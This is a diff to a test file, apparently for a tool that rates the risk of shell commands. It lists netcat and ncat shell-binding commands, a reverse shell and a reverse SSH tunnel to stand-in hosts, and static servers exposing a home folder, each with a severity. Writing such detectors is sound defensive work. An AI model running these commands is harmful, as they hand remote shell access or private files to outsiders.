@@ -48,6 +48,17 @@ describe('raw sockets, servers and tunnels', () => {
     ['nc -lvp 4444', 'medium'],
     ['nc -l 0.0.0.0 4444', 'high'],
     ['nc -e /bin/sh 203.0.113.7 4444', 'critical'],
+    // ncat's own ways of wiring a program to the socket.
+    ['ncat -lvp 4444 --exec /bin/bash', 'critical'],
+    ['ncat -l 4444 --sh-exec id', 'critical'],
+    ['ncat -l 4444 --lua-exec=x.lua', 'critical'],
+    // A reverse tunnel lets the other host reach into this machine.
+    ['ssh -R 8080:localhost:22 evil.example', 'high'],
+    // Static file servers listen on every interface: the folder they serve is what is handed out.
+    ['serve /home/dev', 'high'],
+    ['http-server /home/dev -p 8080', 'high'],
+    ['serve dist', 'medium'],
+    ['live-server --port=8080 public', 'medium'],
     ['ngrok http 3000', 'medium'],
     ['ngrok tcp 22', 'high'],
     ['vite --host 0.0.0.0', 'medium'],
